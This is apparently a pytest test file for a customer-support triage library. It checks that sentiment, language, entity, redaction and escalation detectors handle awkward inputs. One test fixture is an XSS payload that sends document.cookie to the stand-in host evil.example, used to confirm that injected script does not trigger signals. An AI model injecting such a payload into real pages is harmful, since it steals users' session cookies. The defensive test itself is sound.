"""Every signal survives awkward input: empty, emoji, huge, HTML, mixed languages."""

from __future__ import annotations

import pytest

from tandem.triage.signals import (
    Turn,
    detect_bot_loop,
    detect_human_request,
    detect_language,
    detect_sensitive_topics,
    extract_entities,
    find_personal_data,
    redact,
    score_sentiment,
    warm_up,
)

AWKWARD_INPUTS = [
    "",
    "   ",
    "😀😀😀🙏",
    "12345 67890",
    "x" * 10_000,
    "word " * 2_000,
    "<script>alert('hi')</script><p>Where is my <b>order</b>?</p>",
    "Hello, ich habe ein Problem mit my order, merci beaucoup",
    "\u0000\u200b\ufeff",
    "注文はどこですか",
    "!!!???",
]


@pytest.mark.parametrize("text", AWKWARD_INPUTS, ids=lambda t: repr(t[:20]))
def test_nothing_crashes(text: str, embed) -> None:
    vector = embed(text)
    _, confidence = detect_language(text)
    assert 0.0 <= confidence <= 1.0
    assert 0.0 <= detect_human_request(text, vector) <= 1.0
    sentiment = score_sentiment(text, vector)
    assert -1.0 <= sentiment.compound <= 1.0 and 0.0 <= sentiment.frustration <= 1.0
    assert all(0.5 <= s <= 1.0 for s in detect_sensitive_topics(text, vector).values())
    for entity in extract_entities(text):
        assert 0 <= entity.start < entity.end <= len(text)
    for span in find_personal_data(text):
        assert 0 <= span.start < span.end <= len(text)
    assert isinstance(redact(text, thorough=False), str)
    loop = detect_bot_loop([Turn(text, vector, ai_answered=True)], Turn(text, vector))
    assert 0.0 <= loop.score <= 1.0


def test_script_text_is_not_a_signal(embed) -> None:
    text = "<script>document.location='https://evil.example/?c='+document.cookie</script>"
    assert detect_human_request(text, embed(text)) < 0.5
    assert detect_sensitive_topics(text, embed(text)) == {}


def test_mixed_languages(embed) -> None:
    text = "Hello, ich möchte mit einem Mitarbeiter sprechen please"
    assert detect_human_request(text, embed(text)) >= 0.9
    assert detect_language(text)[0] in {"de", "en"}


def test_long_repetitive_text_is_handled(embed) -> None:
    warm_up()
    text = ("My order #12345 for $20 has not arrived and nobody answers! " * 200)[:10_000]
    vector = embed(text)
    # Latency is measured by scripts/measure_signals.py and `tandem bench triage`.
    assert detect_language(text)[0] == "en"
    assert 0.0 <= detect_human_request(text, vector) <= 1.0
    assert 0.0 <= score_sentiment(text, vector).frustration <= 1.0
    assert isinstance(detect_sensitive_topics(text, vector), dict)
    assert any(e.kind == "order_number" for e in extract_entities(text))
    assert isinstance(find_personal_data(text), list)


def test_threat_at_the_end_of_a_long_message_is_seen(embed) -> None:
    text = "Details of my order follow. " * 300 + "If this is not fixed I will sue you."
    assert "legal_threat" in detect_sensitive_topics(text, embed(text))
